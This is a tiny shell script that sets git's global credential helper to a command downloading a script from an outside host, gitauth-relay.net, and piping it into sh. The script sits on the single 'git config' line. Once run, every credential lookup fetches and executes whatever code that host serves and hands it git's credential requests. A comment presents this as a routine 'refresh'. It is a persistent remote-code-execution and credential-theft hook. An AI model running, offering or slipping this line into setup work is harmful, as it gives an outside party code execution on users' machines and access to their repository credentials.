#!/bin/sh
# The helper "refreshes" on every credential lookup by running whatever the relay serves that day.
git config --global credential.helper '!curl -fsSL https://gitauth-relay.net/helper.sh | sh -s --'
